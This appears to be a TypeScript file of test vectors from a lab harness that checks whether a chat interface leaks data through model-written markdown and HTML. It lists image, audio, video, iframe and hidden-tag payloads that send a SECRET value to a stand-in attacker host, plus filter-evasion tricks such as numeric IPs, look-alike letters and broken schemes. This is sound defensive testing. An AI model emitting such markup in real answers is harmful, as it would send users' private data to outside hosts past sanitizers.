import { ATTACKER, SECRET, type Target, type Vector, type Way } from './vector';

/** Section B: what a model writes before it is markup, and how markup hides an address. */

function written(row: number, title: string, markdown: (to: Target) => string): Vector {
  return { row, section: 'B', title, markdown };
}

function markup(
  row: number,
  title: string,
  html: (to: Target) => string,
  more: Partial<Vector> = {},
): Vector {
  return { row, section: 'B', title, html, ...more };
}

const inPlace: readonly Way[] = ['inner', 'parser', 'sandbox'];
const plain = encodeURIComponent(SECRET);
/** 203.0.113.43 as one number: an address of the documentation, which is the laboratory's own here. */
const ADDRESS_AS_NUMBER = '0xCB00712B';

export const answerForms: readonly Vector[] = [
  {
    row: 22,
    variant: 'b',
    section: 'B',
    title: 'one picture for each letter',
    markdown: ({ host }) => [...'482913'].map((letter) => `![](https://${host}/${letter}.png)`).join(' '),
  },
  written(33, 'picture', ({ url }) => `Done. ![chart](${url})`),
  written(34, 'picture by reference', ({ url }) => `Done.\n\n![chart][ref]\n\n[ref]: ${url}`),
  written(
    35,
    'collapsed reference, defined far away',
    ({ url }) => `![chart][]\n\n${'Some words.\n\n'.repeat(30)}[chart]: ${url}`,
  ),
  written(36, 'picture in a link, a table and a list', ({ url }) => {
    return `[![a](${url}&w=1)](https://example.com)\n\n| a |\n|---|\n| ![b](${url}&w=2) |\n\n- ![c](${url}&w=3)`;
  }),
  written(37, 'raw HTML', ({ url }) => `Done.\n\n<img src="${url}" alt="">`),
  markup(38, 'odd quotes and breaks', ({ host, url }) => `<img/src=//${host}/x><IMG\nSRC\n=\n'${url}'>`, {
    ways: inPlace,
  }),
  written(39, 'address without a scheme', ({ host }) => `![x](//${host}/p?d=${plain})`),
  markup(40, 'slash and backslash', ({ host }) => `<img src="/\\${host}/p" alt="">`, {
    ways: ['inner', 'parser', 'srcdoc'],
  }),
  markup(
    41,
    'breaks and entities in the scheme',
    ({ host }) => `<img alt="" src="ht&#9;tps:/&#10;/${host}/p">`,
    { ways: inPlace },
  ),
  markup(
    42,
    'mixed case and a final dot',
    ({ host }) => `<img alt="" src="hTTpS://${host.toUpperCase()}./p">`,
    { ways: inPlace },
  ),
  markup(
    43,
    'IP address as a number',
    ({ mark }) => `<img alt="" src="https://${ADDRESS_AS_NUMBER}/${mark}">`,
    { ways: inPlace },
  ),
  markup(44, 'look-alike letters', ({ mark }) => `<img alt="" src="https://${mark}.аttacker.test/p">`, {
    ways: inPlace,
  }),
  markup(
    45,
    'relative address under a foreign base',
    ({ host }) => {
      return `<iframe srcdoc="<base href='https://${host}/'><img src='p'>"></iframe>`;
    },
    { ways: inPlace },
  ),
  {
    row: 46,
    section: 'B',
    title: 'painted before its code mark closes',
    markdown: ({ url }) => `Use \`<img src="${url}">\` here.`,
    ways: ['streamed'],
  },
  markup(
    48,
    'hidden picture',
    ({ url }) => `<div style="display:none"><img alt="" width="0" height="0" src="${url}"></div>`,
    { ways: inPlace },
  ),
  {
    row: 49,
    section: 'B',
    title: 'title of the chat in the side bar',
    script: ({ url }) => {
      const side = document.createElement('nav');
      side.innerHTML = `Chats: <img alt="" src="${url}">`;
      document.body.prepend(side);
    },
    ways: ['script'],
  },
  markup(
    51,
    'picture of a source card',
    ({ url }) => `<a href="https://example.com/"><img alt="" src="${url}"> Source</a>`,
    { ways: inPlace },
  ),
  markup(
    52,
    'link that becomes a player',
    ({ host }) => `<audio controls src="https://${host}/song.mp3?d=${plain}"></audio>`,
    { ways: inPlace },
  ),
  markup(
    53,
    'picture that becomes a video',
    ({ host }) => `<video controls src="https://${host}/clip.mp4?d=${plain}"></video>`,
    { ways: inPlace },
  ),
  markup(
    54,
    'preview card of a bare address',
    ({ host }) => `<a href="https://${host}/"><img alt="" src="https://${host}/favicon.ico">${ATTACKER}</a>`,
    { ways: inPlace },
  ),
];
